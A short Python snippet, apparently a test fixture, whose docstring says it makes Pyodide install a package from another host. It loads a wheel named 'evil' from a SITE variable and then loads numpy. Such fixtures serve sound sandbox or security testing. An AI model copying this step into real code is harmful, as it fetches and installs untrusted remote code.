"""Has Pyodide install a package from another host."""

import pyodide_js

pyodide_js.loadPackage(SITE + "evil-1.0-py3-none-any.whl")
pyodide_js.loadPackagesFromImports("import numpy")
